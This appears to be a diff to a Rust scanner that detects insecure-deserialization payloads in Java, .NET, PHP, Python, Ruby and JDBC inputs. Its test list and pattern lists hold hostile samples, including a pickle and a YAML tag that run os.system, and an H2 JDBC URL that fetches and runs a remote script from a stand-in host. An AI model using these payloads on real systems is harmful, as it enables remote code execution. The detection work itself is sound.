@@ -10,7 +10,7 @@
 //! Source   CWE-502; Java Object Serialization Specification 6; MS-NRBF; Python `pickletools`.
 
 use super::marks::Marks;
-use super::search::{find, from, has, has_any, head, starts};
+use super::search::{find, from, has_any, head, starts};
 use super::sign::{Input, Sign, Signs, Strength};
 
 const PHP: usize = 0;
@@ -33,6 +33,9 @@ const RUBY_ENCODED: usize = 16;
 const GADGET_NAMED: usize = 17;
 const TYPE_NAME: usize = 18;
 const TOOL: usize = 19;
+const CONNECTS: usize = 20;
+const BYTECODE: usize = 21;
+const NAME: usize = 22;
 
 pub(super) const SIGNS: &[Sign] = &[
     Sign::new("php", Strength::Certain),
@@ -55,6 +58,9 @@ pub(super) const SIGNS: &[Sign] = &[
     Sign::new("gadget-named", Strength::Hint),
     Sign::new("type-name", Strength::Hint),
     Sign::new("tool", Strength::Hint),
+    Sign::new("connects", Strength::Certain),
+    Sign::new("bytecode", Strength::Likely),
+    Sign::new("name", Strength::Likely),
 ];
 
 /// Bytes that are read.
@@ -69,13 +75,51 @@ pub(super) fn look(input: &Input<'_>) -> Signs {
     let text = head(input.text, TEXT_BYTES_MAX);
     if input.is_name {
         signs.note(TYPE_NAME, matches!(text, b"$type" | b"@type"));
+        let makes = matches!(
+            text,
+            b"py/object" | b"py/reduce" | b"py/type" | b"__js_function" | b"__cryo_type__"
+        );
+        signs.note(NAME, makes);
         return signs;
     }
     let text = text.trim_ascii_start();
     if text.len() < 8 {
         return signs;
     }
-    look_at_front(text, &mut signs);
+    let may_begin = matches!(
+        text.first(),
+        Some(
+            0
+            | 4
+            | 0x80
+            | 0xAC
+            | b'/'
+            | b'0'
+            | b'a'
+            | b'c'
+            | b'g'
+            | b'r'
+            | b'y'
+            | b'A'..=b'C'
+            | b'H'
+            | b'K'
+            | b'Q'..=b'T'
+            | b'Y',
+        )
+    );
+    if may_begin {
+        look_at_front(text, &mut signs);
+    }
+    if marks.has(Marks::COLON.and(Marks::EQUALS))
+        && marks.has_any(Marks::SEMICOLON.and(Marks::PLUS))
+    {
+        signs.note(CONNECTS, connects(text));
+    }
+    if marks.has(Marks::DOLLAR.and(Marks::LETTER)) {
+        let is_class = memchr::memmem::find(text, b"$$BCEL$$$").is_some();
+        signs.note(BYTECODE, is_class);
+        signs.note(GADGET, is_class);
+    }
     if marks.has(Marks::COLON.and(Marks::DOUBLE_QUOTE).and(Marks::DIGIT)) {
         look_at_php(text, &mut signs);
     }
@@ -89,10 +133,36 @@ pub(super) fn look(input: &Input<'_>) -> Signs {
         signs.note(NODE, memchr::memmem::find(text, b"_$$ND_FUNC$$_").is_some());
         signs.note(CLASS, memchr::memmem::find(text, b"\"__js_function\"").is_some());
     }
+    if marks.has(Marks::BRACE.and(Marks::SLASH).and(Marks::DOUBLE_QUOTE)) {
+        let makes: [&[u8]; 2] = [b"\"py/object\"", b"\"py/reduce\""];
+        let is_python = makes.iter().any(|it| memchr::memmem::find(text, it).is_some());
+        signs.note(CLASS, is_python);
+        signs.note(TYPE, is_python && text.len() <= 512);
+    }
     if marks.has(Marks::DOT.and(Marks::LETTER)) {
         look_at_classes(text, marks, &mut signs);
     }
     signs
+}
+
+/// An address of a database whose driver runs or makes what the address says.
+fn connects(text: &[u8]) -> bool {
+    let Some(at) = find(text, b"jdbc:") else { return false };
+    let address = head(from(text, at + 5), 512);
+    has_any(
+        address,
+        &[
+            b"init=runscript",
+            b"init=create",
+            b"init=call",
+            b"autodeserialize=true",
+            b"socketfactory=",
+            b"clientrerouteserverjndiname=",
+            b"allowloadlocalinfile=true",
+            b"queryinterceptors=",
+            b"statementinterceptors=",
+        ],
+    )
 }
 
 fn look_at_front(text: &[u8], signs: &mut Signs) {
@@ -100,7 +170,19 @@ fn look_at_front(text: &[u8], signs: &mut Signs) {
         || text.starts_with(b"\xAC\xED\x00\x05")
         || starts(text, b"aced0005") && text.len() > 24;
     signs.note(JAVA, is_java && !text.contains(&b' '));
-    signs.note(DOTNET, text.starts_with(b"AAEAAAD/////"));
+    let is_dotnet = text.starts_with(b"AAEAAAD/////")
+        || text.starts_with(b"\0\x01\0\0\0\xFF\xFF\xFF\xFF")
+        || starts(text, b"0001000000ffffffff");
+    // A view state that is such an object: the three ways in which its front can be written.
+    let fronts: [&[u8]; 3] = [b"AAEAAAD/////", b"ABAAAA/////w", b"AAQAAAP////8"];
+    let is_state = text.starts_with(b"/wE")
+        && fronts.iter().any(|it| memchr::memmem::find(head(text, 64), it).is_some());
+    signs.note(DOTNET, is_dotnet || is_state);
+    if matches!(text, [b'T' | b'Q' | b'R', b'z', b'o', ..]) {
+        let decoded = decoded(head(text, 16));
+        signs.note(PHP, matches!(decoded.trim_ascii_end(), [b'O' | b'C' | b'E', b':', b'0'..=b'9', rest @ ..] if rest.contains(&b'"')));
+    }
+    signs.note(BYTECODE, text.starts_with(b"yv66vg") || starts(text, b"cafebabe0000"));
     signs.note(
         STATE,
         text.starts_with(b"/wE")
@@ -139,6 +221,30 @@ fn look_at_front(text: &[u8], signs: &mut Signs) {
         PICKLE,
         matches!(text, [0x80, 2..=5, b'c' | 0x95 | b'}' | b'(' | b']', ..]) && text.ends_with(b"."),
     );
+}
+
+/// From Base64, as far as it is.
+fn decoded(text: &[u8]) -> Vec<u8> {
+    let mut bits = 0_u32;
+    let mut count = 0;
+    let mut bytes = Vec::with_capacity(12);
+    for &letter in text {
+        let value = match letter {
+            b'A'..=b'Z' => letter - b'A',
+            b'a'..=b'z' => letter - b'a' + 26,
+            b'0'..=b'9' => letter - b'0' + 52,
+            b'+' | b'-' => 62,
+            b'/' | b'_' => 63,
+            _ => break,
+        };
+        bits = bits << 6 & 0xFF_FFFF | u32::from(value);
+        count += 6;
+        if count >= 8 {
+            count -= 8;
+            bytes.extend(u8::try_from(bits >> count & 0xFF));
+        }
+    }
+    bytes
 }
 
 /// `O:4:"Name":1:{`.
@@ -201,32 +307,33 @@ fn is_pickle(text: &[u8]) -> bool {
 
 /// Tags of YAML that name a class.
 fn look_at_tags(text: &[u8], signs: &mut Signs) {
-    const PYTHON: &[&[u8]] = &[
-        b"!!python/object/apply:",
-        b"!!python/object/new:",
-        b"!!python/name:",
-        b"!!python/module:",
-        b"!!python/object:",
-    ];
     const JAVA_NAMES: &[&[u8]] =
-        &[b"!!javax.script.", b"!!java.net.", b"!!com.sun.", b"!!org.", b"!!java.lang.", b"!!com."];
-    let python = PYTHON.iter().find_map(|it| find(text, it).map(|at| from(text, at + it.len())));
+        &[b"javax.script.", b"java.net.", b"com.", b"org.", b"java.lang.", b"java.io.", b"sun."];
+    const PYTHON: &[&[u8]] = &[b"object/apply:", b"object/new:", b"name:", b"module:", b"object:"];
+    const RUBY: &[&[u8]] = &[b"object:", b"struct:", b"hash:", b"class:", b"object/"];
     let names = |it: &[u8]| it.first().is_some_and(|it| it.is_ascii_alphabetic() || *it == b'_');
-    let ruby = find(text, b"!ruby/").map(|at| from(text, at + 6));
-    let is_ruby = ruby.is_some_and(|it| {
-        [&b"object:"[..], b"struct:", b"hash:", b"class:", b"object/"]
-            .iter()
-            .any(|kind| it.strip_prefix(*kind).is_some_and(names))
-    });
-    let java = JAVA_NAMES.iter().find_map(|it| find(text, it).map(|at| from(text, at)));
-    let is_java =
-        java.is_some_and(|it| head(it, 128).contains(&b'[') || head(it, 128).contains(&b'{'));
-    let has_short = text.len() <= 1024;
-    signs.note(TAG, has_short && (python.is_some_and(names) || is_ruby || is_java));
-    signs.note(
-        TAG_NAMED,
-        has_short && (has(text, b"!!python/") || ruby.is_some() || java.is_some()),
-    );
+    let is_short = text.len() <= 1024;
+    if !is_short {
+        return;
+    }
+    for at in memchr::memchr_iter(b'!', text).take(PLACES_MAX) {
+        let tag = from(text, at + 1);
+        if let Some(kind) = tag.strip_prefix(b"ruby/") {
+            let makes = RUBY.iter().any(|it| kind.strip_prefix(*it).is_some_and(names));
+            signs.note(TAG, makes);
+            signs.note(TAG_NAMED, true);
+        }
+        let Some(class) = tag.strip_prefix(b"!") else { continue };
+        if let Some(kind) = class.strip_prefix(b"python/") {
+            let makes = PYTHON.iter().any(|it| kind.strip_prefix(*it).is_some_and(names));
+            signs.note(TAG, makes);
+            signs.note(TAG_NAMED, true);
+        } else if JAVA_NAMES.iter().any(|it| starts(class, it)) {
+            let makes = head(class, 128).iter().any(|it| matches!(it, b'[' | b'{'));
+            signs.note(TAG, makes);
+            signs.note(TAG_NAMED, true);
+        }
+    }
 }
 
 fn look_at_classes(text: &[u8], marks: Marks, signs: &mut Signs) {
@@ -235,6 +342,16 @@ fn look_at_classes(text: &[u8], marks: Marks, signs: &mut Signs) {
         || text.len() <= 200;
     if !may {
         return;
+    }
+    if marks.has(Marks::COLON.and(Marks::DOUBLE_QUOTE).and(Marks::AT)) {
+        let is_typed = names_java(text);
+        signs.note(CLASS, is_typed);
+        signs.note(TYPE, is_typed);
+    }
+    if marks.has(Marks::LESS.and(Marks::EQUALS)) {
+        // Only a reader of objects knows these.
+        let custom: [&[u8]; 2] = [b"serialization=\"custom\"", b"<unserializable-parents"];
+        signs.note(DECODER, custom.iter().any(|it| memchr::memmem::find(text, it).is_some()));
     }
     let Some(at) = gadget(text) else { return };
     let begins = text
@@ -272,6 +389,7 @@ fn look_at_classes(text: &[u8], marks: Marks, signs: &mut Signs) {
                 b"java.lang.runtime",
                 b"java.lang.processbuilder",
                 b"methodname>",
+                b"methodname=\"",
                 b"eventhandler",
             ],
         );
@@ -299,10 +417,39 @@ fn look_at_classes(text: &[u8], marks: Marks, signs: &mut Signs) {
     signs.note(TOOL, has_any(text, &[b"ysoserial", b"phpggc"]));
 }
 
+/// `"@type": "java.net.Inet4Address"`: the name of a class and not of a concept.
+fn names_java(text: &[u8]) -> bool {
+    const PACKAGES: &[&[u8]] = &[
+        b"java.",
+        b"javax.",
+        b"com.sun.",
+        b"org.apache.",
+        b"sun.",
+        b"org.springframework.",
+        b"com.mchange.",
+        b"com.zaxxer.",
+        b"ch.qos.",
+        b"oracle.",
+    ];
+    memchr::memchr_iter(b'@', text).take(PLACES_MAX).any(|at| {
+        let rest = from(text, at + 1);
+        let Some(rest) = rest.strip_prefix(b"type\"").or_else(|| rest.strip_prefix(b"class\""))
+        else {
+            return false;
+        };
+        let rest = rest.trim_ascii_start().strip_prefix(b":").unwrap_or(rest).trim_ascii_start();
+        let name = rest.strip_prefix(b"\"").unwrap_or(rest);
+        PACKAGES.iter().any(|it| name.starts_with(it))
+    })
+}
+
 /// Where a class is named, at its last name, that is made because something happens when it is made.
 fn gadget(text: &[u8]) -> Option<usize> {
-    memchr::memchr2_iter(b'.', b'<', text).take(PLACES_MAX).find_map(|at| {
+    memchr::memchr3_iter(b'.', b'<', b'"', text).take(PLACES_MAX).find_map(|at| {
         let rest = from(text, at + 1);
+        if !rest.first().is_some_and(u8::is_ascii_alphabetic) {
+            return None;
+        }
         let length = rest.iter().take(48).take_while(|it| it.is_ascii_alphanumeric()).count();
         let name = head(rest, length);
         let before = head(text, at);
@@ -314,7 +461,8 @@ fn gadget(text: &[u8]) -> Option<usize> {
                 || PACKAGES
                     .iter()
                     .any(|(package, class)| name.eq_ignore_ascii_case(class) && is_of(package))
-                || starts(name, b"expandedwrapper"));
+                || starts(name, b"expandedwrapper")
+                || starts(name, b"jndi"));
         let start = before
             .iter()
             .rev()
@@ -393,8 +541,15 @@ mod tests {
                 "aced0005737200116a6176612e7574696c",
                 "cos\nsystem\n(S'id'\ntR.",
                 "AAEAAAD/////AQAAAAAAAAAMAgAAAElT",
+                "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA",
+                "Tzo0OiJFdmlsIjowOnt9",
+                "$$BCEL$$$l$8b$I$A$A",
+                "<java.util.PriorityQueue serialization=\"custom\"><a.b/></java.util.PriorityQueue>",
+                "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"x\":1}]",
                 "{\"a\":\"_$$ND_FUNC$$_function(){}()\"}",
                 "!!python/object/apply:os.system [\"id\"]",
+                "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://e.example/x.sql'",
+                "jdbc:mysql://e.example/x?autoDeserialize=true&y=1",
                 "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
                 "--- !ruby/object:Gem::Installer",
                 "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
